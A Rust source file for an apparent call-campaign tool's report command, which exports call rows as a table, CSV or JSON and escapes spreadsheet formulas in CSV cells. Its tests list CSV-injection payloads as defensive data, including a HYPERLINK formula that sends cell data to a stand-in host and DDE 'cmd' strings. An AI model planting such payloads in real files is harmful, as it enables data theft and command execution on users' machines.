//! `campaign report`: one row per call of a campaign (oldest first) with
//! its lead, outcome, duration, end reason, summary, recording path and
//! the lead's custom fields (CSV: one `field.NAME` column per field name
//! any row has, sorted; JSON: a `fields` object; table: `name=value`
//! pairs) and the answering-machine verdict (issue 19), as a table, CSV
//! or JSON. Recording paths are as the agent
//! stored them: absolute (the agent resolves its configuration's relative
//! paths against the configuration file's directory, made absolute), so
//! an operator on the agent's host can open them from any directory; an
//! API URL would need the agent's address and a token the report has
//! neither of, and the file outlives the agent process. This is the operator's export, so numbers and
//! names are written in full. Every CSV cell goes through
//! [`neutralize`], so a lead name or summary like `=HYPERLINK(...)` is
//! text, not a formula, when the file is opened in a spreadsheet.

use std::io::Write;

use callbridge_crm_store::{Session, SessionFilter, Store, outcome_of};
use serde::Serialize;

use crate::admin::find;
use crate::cli::{Format, ReportArgs};
use crate::csv_cell::neutralize;
use crate::error::{CampaignError, Result};

/// One call.
#[derive(Debug, Default, Serialize)]
pub struct Row {
    /// When the call started (RFC 3339).
    pub started: String,
    /// The session id.
    pub session: String,
    /// The lead id.
    pub lead: Option<i64>,
    /// The number dialled.
    pub phone: String,
    /// The lead's name.
    pub name: String,
    /// The dialer's outcome (`live` while not ended).
    pub outcome: String,
    /// Answered talk time in seconds.
    pub duration_s: Option<f64>,
    /// The store's end reason.
    pub end_reason: String,
    /// The final SIP status of a failed call.
    pub sip_status: Option<u16>,
    /// The post-call summary.
    pub summary: String,
    /// The recording file.
    pub recording: String,
    /// The answering-machine detection's first verdict (`human`,
    /// `machine`, `no_speech`, `unreachable`, `unknown`; empty without
    /// detection).
    pub amd: String,
    /// When the verdict was given, in seconds from the answer.
    pub amd_decided_s: Option<f64>,
    /// How a machine's greeting ended (`beep`, `silence`, `timeout`).
    pub amd_machine_end: String,
    /// The lead's custom fields (from the import), as stored.
    pub fields: serde_json::Map<String, serde_json::Value>,
}

/// A custom field's value as one CSV or table cell: a string as is,
/// anything else as its JSON text, null as empty.
fn field_text(v: &serde_json::Value) -> String {
    match v {
        serde_json::Value::String(s) => s.clone(),
        serde_json::Value::Null => String::new(),
        v => v.to_string(),
    }
}

/// Every custom field name of `rows`, sorted (the CSV's extra columns).
fn field_names(rows: &[Row]) -> Vec<&str> {
    let names: std::collections::BTreeSet<&str> = rows
        .iter()
        .flat_map(|r| r.fields.keys().map(String::as_str))
        .collect();
    names.into_iter().collect()
}

/// The table's `name=value; ...` of a row's fields.
fn fields_line(r: &Row) -> String {
    r.fields
        .iter()
        .map(|(k, v)| format!("{k}={}", field_text(v)))
        .collect::<Vec<_>>()
        .join("; ")
}

/// The CSV header, in [`Row::cells`] order.
const HEADER: [&str; 14] = [
    "started",
    "session",
    "lead",
    "phone",
    "name",
    "outcome",
    "duration_s",
    "end_reason",
    "sip_status",
    "summary",
    "recording",
    "amd",
    "amd_decided_s",
    "amd_machine_end",
];

impl Row {
    /// The row's CSV cells, in [`HEADER`] order (numbers as text, absent
    /// values empty).
    fn cells(&self) -> [String; 14] {
        let opt = |v: Option<String>| v.unwrap_or_default();
        [
            self.started.clone(),
            self.session.clone(),
            opt(self.lead.map(|l| l.to_string())),
            self.phone.clone(),
            self.name.clone(),
            self.outcome.clone(),
            opt(self.duration_s.map(|d| format!("{d:?}"))),
            self.end_reason.clone(),
            opt(self.sip_status.map(|s| s.to_string())),
            self.summary.clone(),
            self.recording.clone(),
            self.amd.clone(),
            opt(self.amd_decided_s.map(|d| format!("{d:?}"))),
            self.amd_machine_end.clone(),
        ]
    }
}

fn row(store: &Store, s: &Session) -> Result<Row> {
    let lead = s
        .lead
        .map(|l| store.get_lead(l))
        .transpose()
        .or_else(|e| match e {
            callbridge_crm_store::Error::NotFound { .. } => Ok(None),
            e => Err(CampaignError::from(e)),
        })?;
    Ok(Row {
        started: s.created_at.to_string(),
        session: s.id.to_string(),
        lead: s.lead.map(|l| l.0),
        phone: lead
            .as_ref()
            .map(|l| l.phone.as_str().to_owned())
            .or_else(|| s.to.as_ref().map(|p| p.as_str().to_owned()))
            .unwrap_or_default(),
        name: lead
            .as_ref()
            .and_then(|l| l.name.as_ref())
            .map(|n| n.as_str().to_owned())
            .unwrap_or_default(),
        outcome: outcome_of(s.state, s.end_reason, s.sip_status)
            .map_or("live", |o| o.as_str())
            .to_owned(),
        duration_s: s
            .duration
            .map(|d| (d.as_millis() as f64 / 100.0).round() / 10.0),
        end_reason: s
            .end_reason
            .map(|r| r.as_str())
            .unwrap_or_default()
            .to_owned(),
        sip_status: s.sip_status,
        summary: s
            .summary
            .as_ref()
            .map(|t| t.as_str().to_owned())
            .unwrap_or_default(),
        recording: s
            .recording_path
            .as_ref()
            .map(|p| p.display().to_string())
            .unwrap_or_default(),
        fields: lead.map(|l| l.fields).unwrap_or_default(),
        amd: s
            .amd
            .map(|a| a.verdict.as_str())
            .unwrap_or_default()
            .to_owned(),
        amd_decided_s: s
            .amd
            .map(|a| (a.decided.as_millis() as f64 / 10.0).round() / 100.0),
        amd_machine_end: s
            .amd
            .and_then(|a| a.machine_end)
            .map(|e| e.as_str())
            .unwrap_or_default()
            .to_owned(),
    })
}

/// Every call of the campaign since `since`, oldest first.
pub fn rows(store: &Store, a: &ReportArgs) -> Result<Vec<Row>> {
    let c = find(store, &a.name)?;
    let filter = SessionFilter {
        campaign: Some(c.id),
        since: a.since,
        ..SessionFilter::default()
    };
    let mut out = Vec::new();
    let mut cursor = None;
    loop {
        let page = store.list_sessions(&filter, callbridge_crm_store::MAX_PAGE, cursor)?;
        for s in &page.items {
            out.push(row(store, s)?);
        }
        match page.next {
            Some(n) => cursor = Some(n),
            None => break,
        }
    }
    out.reverse();
    Ok(out)
}

fn cut(s: &str, max: usize) -> String {
    let one_line = s.replace(['\n', '\r', '\t'], " ");
    if one_line.chars().count() <= max {
        return one_line;
    }
    let mut t: String = one_line.chars().take(max.saturating_sub(1)).collect();
    t.push('…');
    t
}

/// `1 lead`, `2 leads`.
pub fn leads(n: usize) -> String {
    if n == 1 {
        "1 lead".to_owned()
    } else {
        format!("{n} leads")
    }
}

/// Masks each row's number as the run lines do (`+141******00`: the
/// store's `PhoneNumber` display), for the table a person reads.
pub fn mask_numbers(rows: &mut [Row]) {
    for r in rows {
        r.phone = match callbridge_crm_store::PhoneNumber::parse(&r.phone) {
            Ok(p) => p.to_string(),
            Err(_) => "*".repeat(r.phone.chars().count().min(16)),
        };
    }
}

/// Writes the report to `out`.
pub fn write(rows: &[Row], format: Format, out: &mut impl Write) -> Result<()> {
    let io = |source| CampaignError::Io {
        path: "stdout".into(),
        source,
    };
    match format {
        Format::Json => {
            serde_json::to_writer_pretty(&mut *out, rows)
                .map_err(|e| CampaignError::Failed(format!("report: {e}")))?;
            writeln!(out).map_err(io)?;
        }
        Format::Csv => {
            let failed = |e: csv::Error| CampaignError::Failed(format!("report: {e}"));
            let mut w = csv::Writer::from_writer(&mut *out);
            let names = field_names(rows);
            let header = HEADER
                .iter()
                .map(|h| (*h).to_owned())
                .chain(names.iter().map(|n| format!("field.{n}")));
            w.write_record(header.map(|h| neutralize(&h).into_owned()))
                .map_err(failed)?;
            for r in rows {
                let fields = names
                    .iter()
                    .map(|n| r.fields.get(*n).map(field_text).unwrap_or_default());
                let cells = r.cells().into_iter().chain(fields);
                w.write_record(cells.map(|c| neutralize(&c).into_owned()))
                    .map_err(failed)?;
            }
            w.flush().map_err(io)?;
        }
        Format::Table => {
            writeln!(
                out,
                "{:<25} {:>6} {:<16} {:<16} {:<10} {:>7} {:<18} {:<11} {:<40} {:<30} recording",
                "started",
                "lead",
                "phone",
                "name",
                "outcome",
                "dur s",
                "end reason",
                "amd",
                "summary",
                "fields"
            )
            .map_err(io)?;
            for r in rows {
                writeln!(
                    out,
                    "{:<25} {:>6} {:<16} {:<16} {:<10} {:>7} {:<18} {:<11} {:<40} {:<30} {}",
                    r.started,
                    r.lead.map(|l| l.to_string()).unwrap_or_default(),
                    r.phone,
                    cut(&r.name, 16),
                    r.outcome,
                    r.duration_s.map(|d| format!("{d:.1}")).unwrap_or_default(),
                    match r.sip_status {
                        Some(code) => format!("{} ({code})", r.end_reason),
                        None => r.end_reason.clone(),
                    },
                    r.amd,
                    cut(&r.summary, 40),
                    cut(&fields_line(r), 30),
                    r.recording
                )
                .map_err(io)?;
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_lead_is_singular_and_table_numbers_are_masked() {
        assert_eq!(leads(1), "1 lead");
        assert_eq!(leads(0), "0 leads");
        assert_eq!(leads(2), "2 leads");
        let mut rows = vec![Row {
            phone: "+14155550100".into(),
            ..Row::default()
        }];
        mask_numbers(&mut rows);
        assert!(!rows[0].phone.contains("5550100"), "{}", rows[0].phone);
        assert!(rows[0].phone.starts_with("+14") && rows[0].phone.ends_with("00"));
    }

    fn row(name: &str, summary: &str) -> Row {
        Row {
            started: "2026-01-01T00:00:00Z".into(),
            session: "6f1c1f7e-58a3-4a47-9f53-2b1b2e6f7a10".into(),
            lead: Some(7),
            phone: "+14155550100".into(),
            name: name.into(),
            outcome: "completed".into(),
            duration_s: Some(2.0),
            end_reason: "caller-hangup".into(),
            sip_status: None,
            summary: summary.into(),
            recording: "-rec.wav".into(),
            fields: serde_json::Map::new(),
            amd: "machine".into(),
            amd_decided_s: Some(2.66),
            amd_machine_end: "beep".into(),
        }
    }

    fn csv_of(rows: &[Row]) -> Vec<csv::StringRecord> {
        let mut out = Vec::new();
        write(rows, Format::Csv, &mut out).unwrap();
        let mut rdr = csv::Reader::from_reader(out.as_slice());
        assert_eq!(
            rdr.headers().unwrap(),
            &csv::StringRecord::from(HEADER.to_vec())
        );
        rdr.records().map(|r| r.unwrap()).collect()
    }

    #[test]
    fn csv_injection_cells_are_written_as_text() {
        let attacks = [
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")",
            "+cmd|' /C calc'!A0",
            "-1+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ];
        let rows: Vec<Row> = attacks.iter().map(|a| row(a, a)).collect();
        let records = csv_of(&rows);
        for (rec, attack) in records.iter().zip(attacks) {
            let quoted = format!("'{attack}");
            assert_eq!(&rec[4], quoted.as_str(), "name");
            assert_eq!(&rec[9], quoted.as_str(), "summary");
            assert_eq!(&rec[10], "'-rec.wav", "recording");
            assert_eq!(&rec[3], "+14155550100", "a phone number stays a number");
            assert_eq!((&rec[2], &rec[6]), ("7", "2.0"));
            assert_eq!((&rec[11], &rec[12], &rec[13]), ("machine", "2.66", "beep"));
        }
    }

    #[test]
    fn an_empty_report_is_just_the_header() {
        assert!(csv_of(&[]).is_empty());
    }

    #[test]
    fn custom_fields_are_columns_escaped_like_the_others() {
        let mut a = row("Ann", "ok");
        a.fields.insert("plan".into(), "gold".into());
        a.fields
            .insert("note".into(), "=HYPERLINK(\"http://evil.example\")".into());
        let mut b = row("Bob", "ok");
        b.fields.insert("plan".into(), "silver".into());
        b.fields.insert("visits".into(), serde_json::json!(3));
        b.fields.insert("=cmd".into(), "x".into());
        let mut out = Vec::new();
        write(&[a, b], Format::Csv, &mut out).unwrap();
        let mut rdr = csv::Reader::from_reader(out.as_slice());
        let header: Vec<String> = rdr.headers().unwrap().iter().map(str::to_owned).collect();
        assert_eq!(header[..HEADER.len()], HEADER.map(str::to_owned));
        // Sorted names; the `field.` prefix keeps a formula-like name text.
        assert_eq!(
            header[HEADER.len()..],
            ["field.=cmd", "field.note", "field.plan", "field.visits"].map(str::to_owned)
        );
        let recs: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
        let n = HEADER.len();
        assert_eq!(
            recs[0].iter().skip(n).collect::<Vec<_>>(),
            ["", "'=HYPERLINK(\"http://evil.example\")", "gold", ""]
        );
        assert_eq!(
            recs[1].iter().skip(n).collect::<Vec<_>>(),
            ["x", "", "silver", "3"]
        );

        let mut table = Vec::new();
        let mut rows = vec![row("Cy", "ok")];
        rows[0].fields.insert("plan".into(), "gold".into());
        write(&rows, Format::Table, &mut table).unwrap();
        let table = String::from_utf8(table).unwrap();
        assert!(
            table.lines().next().unwrap().contains(" fields "),
            "{table}"
        );
        assert!(table.contains("plan=gold"), "{table}");

        let mut json = Vec::new();
        write(&rows, Format::Json, &mut json).unwrap();
        let v: serde_json::Value = serde_json::from_slice(&json).unwrap();
        assert_eq!(v[0]["fields"]["plan"], "gold");
    }
}
